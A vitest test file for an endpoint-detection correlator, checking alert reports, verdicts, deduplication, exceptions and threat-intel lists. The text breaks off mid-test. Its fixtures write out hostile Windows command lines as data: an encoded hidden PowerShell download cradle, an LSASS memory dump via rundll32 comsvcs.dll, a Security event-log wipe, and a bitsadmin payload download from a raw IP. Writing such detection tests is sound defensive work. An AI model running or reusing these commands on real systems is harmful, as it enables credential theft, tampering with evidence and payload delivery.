import { encode } from '@msgpack/msgpack';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { compress } from 'zstd-napi';
import { createManualClock } from '../core/clock.js';
import type { QuickReport, TrailEvent } from '../core/contracts.js';
import { openHotStore, type HotStore, type TenantRecord } from '../storage/index.js';
import { alertIdFor, alertIdForDetection, Correlator } from './correlator.js';
import { LOOK_BACK_MS } from './report-builder.js';
import { ShardCore } from './shard-core.js';
import { createThreatIntel } from './intel/index.js';

const T0 = Date.UTC(2026, 10, 20, 1, 0, 0);
const USER = 'S-1-5-21-1111-2222-3333-1001';
const EXPLORER = '{11111111-0000-0000-0000-000000000001}';
const CHROME = '{11111111-0000-0000-0000-000000000002}';
const WORD = '{11111111-0000-0000-0000-000000000003}';
const PWSH = '{11111111-0000-0000-0000-000000000004}';
const PAYLOAD = '{11111111-0000-0000-0000-000000000005}';
const CMD = '{11111111-0000-0000-0000-000000000006}';
const PAYLOAD_SHA = 'a'.repeat(63) + '1';
const PAYLOAD_PATH = 'C:\\Users\\taro\\AppData\\Local\\Temp\\payload.exe';

/** Builds one device's trail: events get consecutive seq numbers and times. */
function trail() {
  let seq = 0;
  return (k: string, fields: Record<string, unknown>): TrailEvent => {
    seq++;
    return { ts: T0 + seq * 1000, k, seq, user: USER, ...fields } as TrailEvent;
  };
}

/** The black scenario of the issue: browser download → Word → powershell -enc → payload → Run key + raw IP. */
function blackScenario(): { before: TrailEvent[]; after: TrailEvent[] } {
  const ev = trail();
  const before = [
    ev('proc.start', { pg: EXPLORER, pid: 4000, image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\explorer.exe', sig: 'trusted', signer: 'Microsoft Windows' }),
    ev('proc.start', { pg: CHROME, pid: 4100, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: 'chrome.exe', sig: 'trusted', signer: 'Google LLC' }),
    ev('net.dns', { pg: CHROME, qname: 'docs.example.net', qtype: 'A', answers: ['93.184.216.34'] }),
    ev('file.create', { pg: CHROME, path: 'C:\\Users\\taro\\Downloads\\invoice.docm', size: 48213, vol: 'fixed', originUrl: 'https://docs.example.net/invoice.docm', zone: 3 }),
    ev('proc.start', { pg: WORD, pid: 4200, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmd: '"WINWORD.EXE" /n "C:\\Users\\taro\\Downloads\\invoice.docm"', sig: 'trusted', signer: 'Microsoft Corporation' }),
    ev('file.read', { pg: WORD, path: 'C:\\Users\\taro\\Downloads\\invoice.docm', vol: 'fixed', count: 3 }),
    ev('proc.start', { pg: PWSH, pid: 4300, ppg: WORD, pimage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', sig: 'trusted', signer: 'Microsoft Windows' }),
    ev('net.conn', { pg: PWSH, proto: 'tcp', dir: 'out', lip: '10.0.0.5', lport: 50123, rip: '203.0.113.50', rport: 80 }),
    ev('file.create', { pg: PWSH, path: PAYLOAD_PATH, sha256: PAYLOAD_SHA, size: 123456, vol: 'fixed' }),
    ev('proc.start', { pg: PAYLOAD, pid: 4400, ppg: PWSH, pimage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', image: PAYLOAD_PATH, cmd: PAYLOAD_PATH, sha256: PAYLOAD_SHA, sig: 'unsigned' }),
    ev('reg.set', { pg: PAYLOAD, key: `HKU\\${USER}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, value: 'Updater', dtype: 'REG_SZ', data: PAYLOAD_PATH }),
    ev('net.conn', { pg: PAYLOAD, proto: 'tcp', dir: 'out', lip: '10.0.0.5', lport: 50124, rip: '198.51.100.7', rport: 443 }),
    ev('file.write', { pg: PAYLOAD, path: 'C:\\Users\\taro\\AppData\\Roaming\\upd\\cfg.dat', size: 512, vol: 'fixed' }),
    ev('av.detect', { pg: PAYLOAD, engine: 'Microsoft Defender Antivirus', threat: 'Trojan:Win32/Kiseki.A', path: PAYLOAD_PATH, sha256: PAYLOAD_SHA, action: 'quarantined' }),
  ];
  const after = [
    ev('proc.start', { pg: CMD, pid: 4500, ppg: PAYLOAD, pimage: PAYLOAD_PATH, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c whoami', sig: 'trusted', signer: 'Microsoft Windows' }),
    ev('file.read', { pg: CMD, path: 'C:\\Windows\\System32\\whoami.exe', vol: 'fixed', count: 1 }),
  ];
  return { before, after };
}

interface Rig {
  dir: string;
  store: HotStore;
  tenant: TenantRecord;
  tmid: string;
  lsn: number;
  clock: ReturnType<typeof createManualClock>;
  core: ShardCore;
  correlator: Correlator;
  /** Commits a batch to the log and has the shard process it. */
  feed(events: TrailEvent[]): Promise<number>;
  restart(): void;
}

async function rig(intelDir?: string): Promise<Rig> {
  const dir = mkdtempSync(join(tmpdir(), 'kiseki-corr-'));
  const store = openHotStore({ dataDir: dir });
  const { tenant } = await store.tenants.create({ supportId: 'T1', name: 'Tenant One', now: T0 });
  const { device } = await store.devices.enroll(tenant, { computer: 'PC-0001', agentVersion: '3', os: 'Windows 11', ips: [], macs: [] }, T0);
  const clock = createManualClock(T0 + 3_600_000);
  const make = () => {
    const correlator = new Correlator({ store, intel: createThreatIntel(intelDir), clock });
    return { correlator, core: new ShardCore({ store, index: 0, workers: 1, correlator, clock }) };
  };
  const r: Rig = {
    dir,
    store,
    tenant,
    tmid: device.tmid,
    lsn: 0,
    clock,
    ...make(),
    async feed(events) {
      const lsn = ++r.lsn;
      const bytes = encode(events);
      const id = lsn.toString(16).padStart(32, '0');
      const record = { tmid: r.tmid, id, sentAt: 0, recvAt: clock.now(), first: events[0]!.seq, last: events.at(-1)!.seq, n: events.length, z: compress(bytes) };
      await store.log.commitBatches([{ lsn, record }]);
      r.core.processBatch(lsn, r.tmid, bytes, record.recvAt);
      await r.core.flush();
      return lsn;
    },
    restart() {
      Object.assign(r, make());
      r.core.recover();
    },
  };
  r.core.recover();
  return r;
}

function section(report: QuickReport, id: string) {
  const s = report.sections.find((x) => x.id === id);
  if (s === undefined) throw new Error(`no section ${id}`);
  return s;
}

const seqs = (report: QuickReport, id: string) => section(report, id).items.map((i) => i.ref.seq);
const ruleIds = (report: QuickReport) => report.rules.map((r) => r.ruleId).sort();

describe('correlator: the black chain', () => {
  let r: Rig;
  beforeEach(async () => {
    r = await rig();
  });
  afterEach(async () => {
    await r.store.close();
    rmSync(r.dir, { recursive: true, force: true });
  });

  it('writes a quick report with all eight sections, the chain in order, and a black verdict', async () => {
    const { before } = blackScenario();
    await r.feed(before.slice(0, 7));
    await r.feed(before.slice(7));
    const view = r.store.alerts.view(alertIdFor(r.tmid, 14))!;
    expect(view).toBeDefined();
    expect(view.alert).toMatchObject({ state: 'reported', verdict: 'black', sha256: PAYLOAD_SHA, path: PAYLOAD_PATH, threat: 'Trojan:Win32/Kiseki.A', revision: 1, supportId: 'T1', computer: 'PC-0001' });
    const report = view.revisions[0]!;
    expect(report.sections.map((s) => s.id)).toEqual(['origin', 'chain', 'descendants', 'filesWritten', 'registry', 'filesRead', 'network', 'attributes', 'processAccess', 'imageLoads', 'pipes']);

    // 1. Origin: written by powershell (a script download).
    expect(report.originKind).toBe('script');
    expect(seqs(report, 'origin')).toEqual([9, 7]);
    expect(section(report, 'origin').summary).toContain('powershell.exe');
    // 2. Chain: explorer → WINWORD → powershell → payload, in order.
    expect(seqs(report, 'chain')).toEqual([1, 5, 7, 10]);
    expect(section(report, 'chain').summary).toBe('explorer.exe → winword.exe → powershell.exe → payload.exe');
    // 3-7. What the payload did.
    expect(seqs(report, 'descendants')).toEqual([]);
    expect(section(report, 'descendants').summary).toBe('0 child processes');
    expect(seqs(report, 'filesWritten')).toEqual([13]);
    expect(section(report, 'registry').summary).toBe('1 registry change');
    expect(seqs(report, 'registry')).toEqual([11]);
    expect(seqs(report, 'filesRead')).toEqual([]);
    expect(seqs(report, 'network')).toEqual([12]);
    // 8. Attributes.
    expect(section(report, 'attributes').items[0]!.event).toMatchObject({ path: PAYLOAD_PATH, sha256: PAYLOAD_SHA, size: 123456, sig: 'unsigned' });
    // Every evidence item points at the device's trail.
    for (const s of report.sections) for (const it of s.items) expect(it.ref.tmid).toBe(r.tmid);

    expect(report.executed).toBe(true);
    expect(report.verdict).toBe('black');
    expect(ruleIds(report)).toEqual(
      [
        'behaviour.persistence',
        'chain.document-spawns-script',
        'chain.script-host-parent',
        'execution.executed',
        'lolbin.powershell-encoded',
        'network.raw-ip',
        'origin.script-download',
        'persistence.run-key',
        'prevalence.new-to-fleet',
        'provenance.unsigned',
        'provenance.user-writable',
      ].sort(),
    );
    const hit = (id: string) => report.rules.find((x) => x.ruleId === id)!;
    expect(hit('chain.document-spawns-script').evidence.map((e) => e.seq)).toEqual([7]);
    expect(hit('persistence.run-key').evidence.map((e) => e.seq)).toEqual([11]);
    expect(hit('network.raw-ip').evidence.map((e) => e.seq)).toEqual([12]);
    expect(view.verdicts).toEqual([expect.objectContaining({ from: null, to: 'black', revision: 1, by: 'engine' })]);
    // The encoded command is decoded into the report; the verdict states its confidence.
    expect(section(report, 'chain').items[2]!.note).toBe('decoded -EncodedCommand: IEX (New-Object)');
    expect(report.execution).toMatchObject({ how: 'process', pg: PAYLOAD });
    expect(report.confidence?.level).toBe('high');
  });

  it('revises the report when the payload keeps acting within the window, keeping each revision', async () => {
    const { before, after } = blackScenario();
    await r.feed(before);
    await r.feed(after);
    const view = r.store.alerts.view(alertIdFor(r.tmid, 14))!;
    expect(view.alert.revision).toBe(2);
    expect(view.revisions.map((x) => x.revision)).toEqual([1, 2]);
    expect(seqs(view.revisions[0]!, 'descendants')).toEqual([]);
    expect(seqs(view.revisions[1]!, 'descendants')).toEqual([15]);
    expect(seqs(view.revisions[1]!, 'filesRead')).toEqual([16]);
  });

  it('drops decoded batches older than 10 s from its cache, and reads them back from the log for the report and its revision', async () => {
    const { before, after } = blackScenario();
    await r.feed(before.slice(0, 7));
    await r.feed(before.slice(7, 13));
    expect(r.correlator.cachedBatchEvents()).toBe(13);
    r.clock.advance(10_001);
    // A quiet shard's periodic flush drops them with no new batch arriving.
    await r.core.flush();
    expect(r.correlator.cachedBatchEvents()).toBe(0);
    await r.feed(before.slice(13));
    const first = r.store.alerts.view(alertIdFor(r.tmid, 14))!.revisions[0]!;
    expect(seqs(first, 'chain')).toEqual([1, 5, 7, 10]);
    expect(first.verdict).toBe('black');
    // The report read the two older batches back: they are cached again, as recent as the detection's.
    expect(r.correlator.cachedBatchEvents()).toBe(14);
    r.clock.advance(10_001);
    await r.feed(after);
    const view = r.store.alerts.view(alertIdFor(r.tmid, 14))!;
    expect(view.alert.revision).toBe(2);
    expect(seqs(view.revisions[1]!, 'chain')).toEqual([1, 5, 7, 10]);
    expect(seqs(view.revisions[1]!, 'descendants')).toEqual([15]);
  });

  it('leaves a report alone for events after the window or of unrelated processes', async () => {
    const { before } = blackScenario();
    await r.feed(before);
    const late = { ts: T0 + 15 * 1000 + 11 * 60 * 1000, k: 'proc.start', seq: 15, pg: CMD, ppg: PAYLOAD, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd' } as TrailEvent;
    await r.feed([late]);
    const unrelated = { ts: T0 + 16 * 1000, k: 'file.write', seq: 16, pg: CHROME, path: 'C:\\x.txt' } as TrailEvent;
    await r.feed([unrelated]);
    expect(r.store.alerts.view(alertIdFor(r.tmid, 14))!.alert.revision).toBe(1);
  });

  it('gives the same report after a restart in the middle as without one, and no duplicate alert', async () => {
    const { before, after } = blackScenario();
    const reference = await rig();
    await reference.feed(before.slice(0, 9));
    await reference.feed(before.slice(9));
    await reference.feed(after);
    const expected = reference.store.alerts.view(alertIdFor(reference.tmid, 14))!;

    // Same trail, but the shard dies after the first batch without flushing its state snapshot,
    // and the second batch is committed while it is down.
    await r.feed(before.slice(0, 9));
    const lsn2 = ++r.lsn;
    const bytes = encode(before.slice(9));
    await r.store.log.commitBatches([{ lsn: lsn2, record: { tmid: r.tmid, id: 'f'.repeat(32), sentAt: 0, recvAt: 0, first: 10, last: 14, n: 5, z: compress(bytes) } }]);
    r.restart();
    await r.core.flush();
    r.restart(); // twice: the second replay must not add anything
    await r.feed(after);
    const got = r.store.alerts.view(alertIdFor(r.tmid, 14))!;
    const strip = (q: QuickReport) => ({ ...q, createdAt: 0, tmid: '', alertId: '', detection: { ...q.detection, ref: { ...q.detection.ref, tmid: '' } }, sections: q.sections.map((s) => ({ ...s, items: s.items.map((i) => ({ ...i, ref: { ...i.ref, tmid: '' } })) })), rules: q.rules.map((h) => ({ ...h, evidence: h.evidence.map((e) => ({ ...e, tmid: '' })) })) });
    expect(got.revisions.map(strip)).toEqual(expected.revisions.map(strip));
    expect(r.store.alerts.count()).toBe(1);
    await reference.store.close();
    rmSync(reference.dir, { recursive: true, force: true });
  });
});

describe('correlator: white, gray, dedup, exceptions and policy', () => {
  let r: Rig;
  beforeEach(async () => {
    r = await rig();
  });
  afterEach(async () => {
    await r.store.close();
    rmSync(r.dir, { recursive: true, force: true });
  });

  const SETUP_SHA = 'b'.repeat(64);
  const SETUP_PATH = 'C:\\Users\\taro\\Downloads\\VendorSetup.exe';
  function whiteCase(): TrailEvent[] {
    const ev = trail();
    return [
      ev('proc.start', { pg: CHROME, image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: 'chrome.exe', sig: 'trusted', signer: 'Google LLC' }),
      ev('file.create', { pg: CHROME, path: SETUP_PATH, sha256: SETUP_SHA, size: 9_000_000, vol: 'fixed', originUrl: 'https://download.vendor.example/VendorSetup.exe', zone: 3 }),
      // Blocked before execution: no process start; the antivirus reports the file's signature.
      ev('av.detect', { pg: EXPLORER, engine: 'Microsoft Defender Antivirus', threat: 'PUA:Win32/Bundler', path: SETUP_PATH, sha256: SETUP_SHA, action: 'blocked', signer: 'Vendor Software Inc.', sig: 'trusted' }),
    ];
  }

  it('judges a trusted-signed installer blocked before execution white', async () => {
    await r.feed(whiteCase());
    const view = r.store.alerts.view(alertIdFor(r.tmid, 3))!;
    const report = view.revisions[0]!;
    expect(report.executed).toBe(false);
    expect(report.originKind).toBe('internet');
    expect(seqs(report, 'origin')).toEqual([2, 1]);
    expect(seqs(report, 'chain')).toEqual([]);
    expect(ruleIds(report)).toEqual(['execution.blocked', 'origin.internet', 'prevalence.new-to-fleet', 'signer.trusted']);
    expect(report.verdict).toBe('white');
    expect(view.alert.verdict).toBe('white');
  });

  it('suppresses a detection on the exception list (by signer, path pattern or hash): no report', async () => {
    await r.store.exceptions.add({ supportId: 'T1', signer: 'vendor software inc.', reason: 'known vendor', createdAt: T0, createdBy: 'test' });
    await r.feed(whiteCase());
    const view = r.store.alerts.view(alertIdFor(r.tmid, 3))!;
    expect(view.alert.state).toBe('suppressed');
    expect(view.alert.suppressedBy).toMatch(/^ex_/);
    expect(view.revisions).toEqual([]);
  });

  it.each([
    ['a hash', { sha256: SETUP_SHA }, true],
    ['a path pattern', { pathPattern: 'c:\\users\\*\\downloads\\vendor*.exe' }, true],
    ['an expired entry', { sha256: SETUP_SHA, expiresAt: T0 }, false],
    ['another hash', { sha256: 'c'.repeat(64) }, false],
  ])('matches exceptions by %s', async (_name, entry, suppressed) => {
    await r.store.exceptions.add({ supportId: 'T1', ...entry, reason: 'test', createdAt: T0, createdBy: 'test' });
    await r.feed(whiteCase());
    expect(r.store.alerts.view(alertIdFor(r.tmid, 3))!.alert.state).toBe(suppressed ? 'suppressed' : 'reported');
  });

  it('judges an unsigned tool run from a USB stick gray', async () => {
    const ev = trail();
    const tool = 'E:\\tools\\scan.exe';
    await r.feed([
      ev('usb.connect', { instanceId: 'USB\\VID_0781&PID_5581\\0001', vendorId: '0781', productId: '5581', serial: '0001', vendor: 'SanDisk', model: 'Ultra', type: 'storage', drive: 'E:' }),
      ev('proc.start', { pg: EXPLORER, image: 'C:\\Windows\\explorer.exe', cmd: 'explorer.exe' }),
      ev('proc.start', { pg: PAYLOAD, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: tool, cmd: tool, sha256: 'd'.repeat(64), sig: 'unsigned' }),
      ev('av.detect', { pg: PAYLOAD, engine: 'Microsoft Defender Antivirus', threat: 'HackTool:Win32/Scan', path: tool, sha256: 'd'.repeat(64), action: 'allowed' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 4))!.revisions[0]!;
    expect(report.originKind).toBe('removable');
    expect(ruleIds(report)).toEqual(['execution.executed', 'origin.removable', 'prevalence.new-to-fleet', 'provenance.unsigned', 'provenance.user-writable']);
    expect(report.verdict).toBe('gray');
    expect(seqs(report, 'chain')).toEqual([2, 3]);
  });

  it('counts the same file on the same device within 72 h on the first alert, and opens a new one after', async () => {
    const det = (seq: number, ts: number) => ({ ts, k: 'av.detect', seq, path: SETUP_PATH, sha256: SETUP_SHA, action: 'blocked', threat: 'X', engine: 'E' }) as TrailEvent;
    await r.feed([det(1, T0)]);
    await r.feed([det(2, T0 + 3_600_000)]);
    await r.feed([det(3, T0 + 71 * 3_600_000)]);
    const first = r.store.alerts.view(alertIdFor(r.tmid, 1))!;
    expect(first.alert.repeats).toBe(2);
    expect(first.alert.lastRepeatAt).toBe(T0 + 71 * 3_600_000);
    expect(r.store.alerts.view(alertIdFor(r.tmid, 2))).toBeUndefined();
    await r.feed([det(4, T0 + 73 * 3_600_000)]);
    expect(r.store.alerts.view(alertIdFor(r.tmid, 4))).toBeDefined();
    expect(r.store.alerts.count()).toBe(2);
  });

  it('names the alert a deduplicated detection is counted on, the one `kiseki report` knows', async () => {
    const det = (seq: number, ts: number) => ({ ts, k: 'av.detect', seq, path: SETUP_PATH, sha256: SETUP_SHA, action: 'blocked', threat: 'X', engine: 'E' }) as TrailEvent;
    await r.feed([det(1, T0)]);
    await r.feed([det(2, T0 + 3_600_000)]);
    const first = alertIdFor(r.tmid, 1);
    expect(alertIdForDetection(r.store, r.tmid, det(1, T0))).toBe(first);
    // Counted on the first alert: its own id would name nothing.
    expect(r.store.alerts.view(alertIdFor(r.tmid, 2))).toBeUndefined();
    expect(alertIdForDetection(r.store, r.tmid, det(2, T0 + 3_600_000))).toBe(first);
    expect(r.store.alerts.view(alertIdForDetection(r.store, r.tmid, det(2, T0 + 3_600_000)))).toBeDefined();
    // Upper-case hashes and paths fold the way the correlator folds them.
    expect(alertIdForDetection(r.store, r.tmid, { ...det(3, T0 + 7_200_000), sha256: SETUP_SHA.toUpperCase() })).toBe(first);
    // Past the 72 h window a detection opens its own alert.
    expect(alertIdForDetection(r.store, r.tmid, det(4, T0 + 73 * 3_600_000))).toBe(alertIdFor(r.tmid, 4));
  });

  it('records alerts without publishing during the tuning period', async () => {
    await r.store.tenants.setPolicy('T1', { tuningUntil: r.clock.now() + 30 * 86_400_000 });
    await r.feed(whiteCase());
    expect(r.store.alerts.view(alertIdFor(r.tmid, 3))!.alert.state).toBe('tuning');
  });

  it('requests isolation on black when the policy says so', async () => {
    await r.store.tenants.setPolicy('T1', { isolateOnBlack: true });
    await r.feed(blackScenario().before);
    const alert = r.store.alerts.view(alertIdFor(r.tmid, 14))!.alert;
    expect(alert.isolationRequested).toBe(true);
    const commands = r.store.commands.forDevice(r.tmid);
    expect(commands).toEqual([expect.objectContaining({ tmid: r.tmid, kind: 'isolate', state: 'queued', requestedBy: 'engine' })]);
  });

  it('never isolates in non-block mode, even when the policy asks for isolation on black', async () => {
    await r.store.tenants.setPolicy('T1', { isolateOnBlack: true });
    await r.store.fleet.setPolicy('T1', { mode: 'non-block' }, 'op', r.clock.now());
    await r.feed(blackScenario().before);
    const alert = r.store.alerts.view(alertIdFor(r.tmid, 14))!.alert;
    expect(alert.verdict).toBe('black');
    expect(alert.isolationRequested).toBe(false);
    expect(r.store.commands.forDevice(r.tmid)).toEqual([]);
  });

  it('adds a confident white to the exception list when the policy says so', async () => {
    await r.store.tenants.setPolicy('T1', { autoExceptWhite: true });
    await r.feed(whiteCase());
    const entries = r.store.exceptions.list('T1');
    expect(entries).toEqual([expect.objectContaining({ supportId: 'T1', sha256: SETUP_SHA, createdBy: 'engine' })]);
  });
});

describe('correlator: the 7-day look-back', () => {
  let r: Rig;
  beforeEach(async () => {
    r = await rig();
  });
  afterEach(async () => {
    await r.store.close();
    rmSync(r.dir, { recursive: true, force: true });
  });

  /** The payload is created, started and writes a file `ageMs` before it writes another and is detected. */
  async function reportWithHistory(ageMs: number): Promise<QuickReport> {
    const DETECTED = T0 + 10_000;
    const old = DETECTED - ageMs;
    await r.feed([
      { ts: old, k: 'file.create', seq: 1, pg: PWSH, path: PAYLOAD_PATH, sha256: PAYLOAD_SHA, size: 1, vol: 'fixed' },
      { ts: old + 1, k: 'proc.start', seq: 2, pg: PAYLOAD, pid: 4400, image: PAYLOAD_PATH, cmd: PAYLOAD_PATH, sha256: PAYLOAD_SHA, sig: 'unsigned' },
      { ts: old + 2, k: 'file.write', seq: 3, pg: PAYLOAD, path: 'C:\\Users\\taro\\old.dat', size: 1, vol: 'fixed' },
    ] as TrailEvent[]);
    await r.feed([
      { ts: DETECTED - 1, k: 'file.write', seq: 4, pg: PAYLOAD, path: 'C:\\Users\\taro\\new.dat', size: 1, vol: 'fixed' },
      { ts: DETECTED, k: 'av.detect', seq: 5, pg: PAYLOAD, engine: 'E', threat: 'X', path: PAYLOAD_PATH, sha256: PAYLOAD_SHA, action: 'quarantined' },
    ] as TrailEvent[]);
    return r.store.alerts.view(alertIdFor(r.tmid, 5))!.revisions[0]!;
  }

  it('leaves out events older than 7 days before the detection (13 months here)', async () => {
    const report = await reportWithHistory(396 * 86_400_000);
    expect(seqs(report, 'filesWritten')).toEqual([4]);
    expect(seqs(report, 'origin')).toEqual([]);
    const all = report.sections.flatMap((s) => s.items.map((i) => i.ref.ts));
    expect(Math.min(...all)).toBeGreaterThanOrEqual(T0 + 10_000 - LOOK_BACK_MS);
  });

  it('uses events within the 7 days', async () => {
    const report = await reportWithHistory(6 * 86_400_000);
    expect(seqs(report, 'filesWritten')).toEqual([3, 4]);
    expect(seqs(report, 'origin')).toContain(1);
  });
});

describe('correlator: threat intelligence', () => {
  it('makes a hash on the list decisive black, and reloads the lists when a file changes', async () => {
    const intelDir = mkdtempSync(join(tmpdir(), 'kiseki-intel-'));
    const r = await rig(intelDir);
    try {
      const ev = trail();
      const det = (sha: string) => ev('av.detect', { path: `C:\\x\\${sha.slice(0, 4)}.exe`, sha256: sha, action: 'blocked', signer: 'Vendor', sig: 'trusted' });
      await r.feed([det('e'.repeat(64))]);
      expect(r.store.alerts.view(alertIdFor(r.tmid, 1))!.alert.verdict).toBe('white');
      writeFileSync(join(intelDir, 'sha256.txt'), `# known bad\n${'F'.repeat(64)}\n`);
      const intel = createThreatIntel(intelDir);
      expect(intel.has('sha256', 'f'.repeat(64))).toBe(true);
      r.restart(); // a new correlator reads the list; a running one reloads on its timer (reloadIfChanged)
      await r.feed([det('f'.repeat(64))]);
      const report = r.store.alerts.view(alertIdFor(r.tmid, 2))!.revisions[0]!;
      expect(report.verdict).toBe('black');
      expect(report.rules.find((h) => h.ruleId === 'intel.sha256')?.outcome).toBe('black');
    } finally {
      await r.store.close();
      rmSync(r.dir, { recursive: true, force: true });
      rmSync(intelDir, { recursive: true, force: true });
    }
  });

  it('matches domains with their subdomains and reloads a changed file', () => {
    const dir = mkdtempSync(join(tmpdir(), 'kiseki-intel-'));
    try {
      writeFileSync(join(dir, 'domains.txt'), 'evil.example\n');
      writeFileSync(join(dir, 'ips.txt'), '203.0.113.9\n');
      const intel = createThreatIntel(dir);
      expect(intel.has('domain', 'cdn.evil.example')).toBe(true);
      expect(intel.has('domain', 'https://a.evil.example/x.exe')).toBe(true);
      expect(intel.has('domain', 'notevil.example')).toBe(false);
      expect(intel.has('ip', '203.0.113.9')).toBe(true);
      writeFileSync(join(dir, 'domains.txt'), 'other.example\n# evil.example removed\n');
      expect(intel.reloadIfChanged()).toBe(true);
      expect(intel.has('domain', 'cdn.evil.example')).toBe(false);
      expect(intel.counts()).toEqual({ sha256: 0, domain: 1, ip: 1, url: 0 });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('correlator: provenance that follows how Windows runs things, and the verdict model', () => {
  let r: Rig;
  beforeEach(async () => {
    r = await rig();
  });
  afterEach(async () => {
    await r.store.close();
    rmSync(r.dir, { recursive: true, force: true });
  });

  const HOST = '{22222222-0000-0000-0000-000000000001}';
  const CHILD = '{22222222-0000-0000-0000-000000000002}';
  const SVCHOST = '{22222222-0000-0000-0000-000000000003}';
  const LOADER = '{22222222-0000-0000-0000-000000000004}';
  const EXPLORER_START = { pg: EXPLORER, pid: 4000, image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\explorer.exe' };

  it('a script run by wscript: executed through its host, with the host chain and descendants, black on credential theft', async () => {
    const ev = trail();
    const script = 'C:\\Users\\taro\\Downloads\\invoice.vbs';
    await r.feed([
      ev('proc.start', EXPLORER_START),
      ev('file.create', { pg: CHROME, path: script, vol: 'fixed', originUrl: 'https://mail.example.org/att/invoice.vbs', zone: 3 }),
      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Windows\\System32\\wscript.exe', cmd: '"C:\\Windows\\System32\\WScript.exe" "invoice.vbs"', cwd: 'C:\\Users\\taro\\Downloads\\' }),
      ev('proc.start', { pg: CHILD, pid: 5100, ppg: HOST, pimage: 'C:\\Windows\\System32\\wscript.exe', image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\taro\\l.dmp full' }),
      ev('proc.access', { pg: CHILD, tpg: '{22222222-0000-0000-0000-0000000000aa}', timage: 'C:\\Windows\\system32\\lsass.exe', access: '0x1FFFFF' }),
      ev('av.detect', { engine: 'E', threat: 'Trojan:VBS/X', path: script, action: 'quarantined' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 6))!.revisions[0]!;
    expect(report.executed).toBe(true);
    expect(report.execution).toMatchObject({ how: 'hosted', pg: HOST });
    expect(section(report, 'chain').summary).toBe('explorer.exe → wscript.exe (runs C:\\Users\\taro\\Downloads\\invoice.vbs (script))');
    expect(seqs(report, 'chain')).toEqual([1, 3]);
    expect(seqs(report, 'descendants')).toEqual([4]);
    expect(section(report, 'processAccess').items[0]!.note).toBe('lsass.exe opened with PROCESS_ALL_ACCESS (LSASS memory readable: credential theft)');
    expect(section(report, 'processAccess').summary).toContain('LSASS was opened');
    const credential = report.rules.find((h) => h.ruleId === 'behaviour.credential-access')!;
    expect(credential.evidence.map((e) => e.seq).sort()).toEqual([4, 5]);
    expect(report.rules.find((h) => h.ruleId === 'behaviour.host-spawns-shell')?.evidence.map((e) => e.seq)).toEqual([4]);
    expect(report.verdict).toBe('black');
  });

  it('a DLL run by rundll32 by its relative name: executed, and C2 to a raw IP on 8443 makes it black with no intel', async () => {
    const ev = trail();
    const dll = 'C:\\ProgramData\\upd\\helper.dll';
    await r.feed([
      ev('proc.start', EXPLORER_START),
      ev('file.create', { pg: EXPLORER, path: dll, vol: 'fixed' }),
      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe helper,Start', cwd: 'C:\\ProgramData\\upd\\' }),
      ev('image.load', { pg: HOST, image: 'C:\\Windows\\System32\\rundll32.exe', path: dll, sig: 'unsigned' }),
      ev('net.conn', { pg: HOST, proto: 'tcp', dir: 'out', lip: '10.0.0.5', lport: 50000, rip: '198.51.100.20', rport: 8443 }),
      ev('proc.start', { pg: CHILD, pid: 5100, ppg: HOST, image: 'C:\\Windows\\System32\\wevtutil.exe', cmd: 'wevtutil cl Security' }),
      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: dll, action: 'quarantined' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 7))!.revisions[0]!;
    expect(report.execution).toMatchObject({ how: 'hosted', pg: HOST });
    expect(section(report, 'imageLoads').items.map((i) => i.note)).toEqual(['the detected file loaded as an image (unsigned)']);
    const ids = ruleIds(report);
    expect(ids).toEqual(expect.arrayContaining(['behaviour.c2-unusual-port', 'behaviour.defence-tampering', 'network.raw-ip', 'execution.executed', 'provenance.unsigned']));
    expect(report.rules.find((h) => h.ruleId === 'behaviour.c2-unusual-port')?.detail).toBe('198.51.100.20:8443');
    expect(report.verdict).toBe('black');
  });

  it('a file written by BITS for bitsadmin: its origin is inferred from the requester, shown with its evidence; never run stays gray', async () => {
    const ev = trail();
    const file = 'C:\\Users\\taro\\AppData\\Local\\Temp\\stage2.exe';
    await r.feed([
      ev('proc.start', EXPLORER_START),
      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, image: 'C:\\Windows\\System32\\bitsadmin.exe', cmd: `bitsadmin /transfer job /download /priority high http://203.0.113.9/stage2.exe ${file}` }),
      ev('proc.start', { pg: SVCHOST, pid: 900, image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe -k netsvcs -p -s BITS' }),
      ev('file.create', { pg: SVCHOST, path: file, vol: 'fixed' }),
